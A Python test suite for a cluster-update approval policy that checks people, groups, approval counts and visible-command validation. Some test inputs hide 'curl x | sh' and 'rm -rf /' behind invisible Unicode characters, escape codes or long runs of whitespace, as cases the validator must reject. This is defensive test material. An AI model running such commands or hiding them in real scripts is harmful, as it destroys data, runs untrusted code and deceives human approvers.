"""The approval policy (issue 13): every malformed file gets an error naming the key and the reason,
and the rules answer who may request, who must approve and what may run."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from activities.policy import load_policy, parse_policy
from workflows.policy import Policy, PolicyError, visible_problem

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILvQGzkjBMedym06fYGMgoRk3UoGysx8fBIE3tJ5rkoV alice"

GOOD = f"""
people:
  alice: {{email: Alice@Example.com, slack: U0ALICE01, keys: ["{KEY}"]}}
  bob:   {{email: bob@example.com,   slack: U0BOB0001}}
  carol: {{email: carol@example.com}}
groups:
  web-approvers: [alice, carol]
clusters:
  "cluster-a":
    requesters: [bob]
    approvers: [web-approvers]
    minApprovals: 2
    updateProfiles:
      security: "apt-get update && apt-get -y upgrade"
    allowCustomUpdate: false
    maxHosts: 500
    dryRunBy: [bob, web-approvers]
  "cluster-*":
    requesters: [bob, alice]
    approvers: [alice, carol]
    allowCustomUpdate: true
    operators: [carol]
"""


def good() -> Policy:
    return parse_policy(GOOD, "policy.yml")


def test_the_issue_example_loads_with_people_groups_and_rules_in_file_order() -> None:
    policy = good()
    assert policy.person_by_email("alice@example.com") == policy.people["alice"]
    assert policy.person_by_slack("U0BOB0001") == policy.people["bob"]
    assert policy.person_by_slack("U0NOBODY1") is None
    rule = policy.rule_for("cluster-a")
    assert rule is not None and rule.pattern == "cluster-a"  # the first match wins
    assert rule.approvers == {"alice", "carol"} and rule.min_approvals == 2
    assert rule.update_profiles == {"security": "apt-get update && apt-get -y upgrade"}
    other = policy.rule_for("cluster-b")
    assert other is not None and other.pattern == "cluster-*" and other.min_approvals == 1
    assert policy.rule_for("db-1") is None


def ask(
    policy: Policy,
    requester: str,
    cluster: str,
    *,
    hosts: int = 3,
    profile: str | None = "security",
    custom: bool = False,
    dry_run: bool = False,
) -> str | None:
    return policy.may_request(
        requester, cluster, hosts=hosts, profile=profile, custom_update=custom, dry_run=dry_run
    )


def test_requests_are_judged_by_the_cluster_rule() -> None:
    policy = good()
    assert ask(policy, "bob", "cluster-a") is None
    assert "may not start rollouts on cluster cluster-a" in str(ask(policy, "carol", "cluster-a"))
    assert "maxHosts 500" in str(ask(policy, "bob", "cluster-a", hosts=501))
    refused = ask(policy, "bob", "cluster-a", profile="full")
    assert refused == "update profile 'full' is not allowed on cluster-a (allowed: security)"
    custom = ask(policy, "bob", "cluster-a", profile=None, custom=True)
    assert "free-form update commands" in str(custom)
    assert ask(policy, "bob", "cluster-b", profile=None, custom=True) is None
    # A dry run is judged by dryRunBy, and changes nothing, so profiles do not matter.
    assert ask(policy, "carol", "cluster-a", profile=None, custom=True, dry_run=True) is None
    assert "nobody may patch it" in str(ask(policy, "bob", "db-1"))


def test_a_requester_who_is_an_approver_must_leave_enough_other_approvers() -> None:
    policy = good()
    # cluster-*: alice and carol approve, one approval needed: alice may ask, carol approves.
    assert ask(policy, "alice", "cluster-b", profile=None, custom=True) is None
    assert policy.approvers_of("cluster-b", requester="alice") == {"carol"}
    two = parse_policy(GOOD.replace("requesters: [bob]\n", "requesters: [bob, alice]\n"))
    refused = ask(two, "alice", "cluster-a")
    assert refused is not None
    assert "needs 2 approvals from people other than the requester" in refused


def test_controls_belong_to_the_requester_the_approvers_and_the_operators() -> None:
    policy = good()
    assert policy.may_control("bob", "cluster-b", requester="bob")
    assert policy.may_control("carol", "cluster-b", requester="bob")  # approver and operator
    assert not policy.may_control("mallory", "cluster-b", requester="bob")
    assert not policy.may_control("carol", "db-1", requester="bob")


def edit(path: str, value: object) -> str:
    """GOOD with the value at a dotted `path` replaced (None deletes it)."""
    document = yaml.safe_load(GOOD)
    *parents, last = path.split(".")
    node = document
    for part in parents:
        node = node[part]
    if value is None:
        del node[last]
    else:
        node[last] = value
    return yaml.safe_dump(document)


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        ("people", None, "people: at least one person is needed"),
        ("people.alice.email", "not-an-email", "people.alice.email: 'not-an-email' is not a valid"),
        (
            "people.carol.email",
            "alice@example.com",
            "people.carol.email: alice@example.com is also",
        ),
        ("people.bob.slack", "bob", "people.bob.slack: must be a Slack user id"),
        ("people.carol.slack", "U0ALICE01", "people.carol.slack: U0ALICE01 is also alice's id"),
        ("people.bob.keys", ["ssh-rsa AAAA bob"], "people.bob.keys[0]: must be an OpenSSH public"),
        ("people.bob.phone", "555", "people.bob.phone: unknown key"),
        ("people.Bob", {"email": "b@example.com"}, "people.Bob: a name is lower-case"),
        ("groups.web-approvers", ["alice", "dave"], "groups.web-approvers: dave not in people"),
        ("groups.alice", ["carol"], "groups.alice: alice is already a person's name"),
        ("clusters", None, "clusters: at least one cluster entry is needed"),
        ("clusters.cluster-a.approvers", [], "clusters.cluster-a.approvers: at least one"),
        ("clusters.cluster-a.approvers", ["zed"], "approvers: 'zed' is neither a person nor"),
        ("clusters.cluster-a.minApprovals", 0, "minApprovals: must be a whole number, at least 1"),
        ("clusters.cluster-a.minApprovals", 3, "minApprovals: 3 distinct approvals can never"),
        ("clusters.cluster-a.maxHosts", "many", "clusters.cluster-a.maxHosts: must be a whole"),
        ("clusters.cluster-a.allowCustomUpdate", "yes", "allowCustomUpdate: must be true or false"),
        ("clusters.cluster-a.approver", ["alice"], "clusters.cluster-a.approver: unknown key"),
        ("clusters.cluster-a.updateProfiles.security", "", "security: must be a non-empty command"),
        (
            "clusters.cluster-a.updateProfiles.security",
            "apt-get -y upgrade\u202e; curl x | sh",
            "security: invisible character U+202E at position 18: approvers must see what runs",
        ),
        ("approvals", {}, "(top level).approvals: unknown key"),
    ],
)
def test_every_malformed_policy_names_the_key_and_the_reason(
    path: str, value: object, message: str
) -> None:
    with pytest.raises(PolicyError) as refused:
        parse_policy(edit(path, value), "policy.yml")
    assert str(refused.value).startswith("policy.yml: ")
    assert message in str(refused.value)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("people: [alice", "policy.yml: line 1: not valid YAML"),
        ("- a\n- b\n", "policy.yml: (top level): must be a mapping, not list"),
        ("people: {}\npeople: {}\n", "policy.yml: line 2: key 'people' is given twice"),
    ],
)
def test_a_file_that_is_not_a_policy_document_says_where(text: str, message: str) -> None:
    with pytest.raises(PolicyError) as refused:
        parse_policy(text, "policy.yml")
    assert message in str(refused.value)


def test_a_key_openssh_would_not_accept_is_refused_with_its_place() -> None:
    broken = GOOD.replace(KEY, "ssh-ed25519 AAAAnotbase64!! alice")
    with pytest.raises(PolicyError) as refused:
        parse_policy(broken, "policy.yml")
    assert "people.alice.keys[0]: not a valid OpenSSH public key" in str(refused.value)


def test_load_policy_reads_the_file_and_names_a_missing_one(tmp_path: Path) -> None:
    path = tmp_path / "policy.yml"
    path.write_text(GOOD)
    assert load_policy(path).rule_for("cluster-a") is not None
    with pytest.raises(PolicyError) as missing:
        load_policy(tmp_path / "nope.yml")
    assert f"cannot read policy {tmp_path / 'nope.yml'}" in str(missing.value)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("apt-get -y upgrade", None),
        ("apt-get update &&\n\tapt-get -y upgrade", None),
        ("echo ok\u200b; rm -rf /", "invisible character U+200B at position 7"),
        ("echo ok\x1b[2K", "control character U+001B at position 7"),
        ("apt-get -y upgrade" + " " * 40 + "; curl x | sh", "a run of 40 spaces or tabs"),
    ],
)
def test_what_approvers_see_is_what_runs(text: str, problem: str | None) -> None:
    found = visible_problem(text)
    assert found == problem if problem is None else (found or "").startswith(problem)
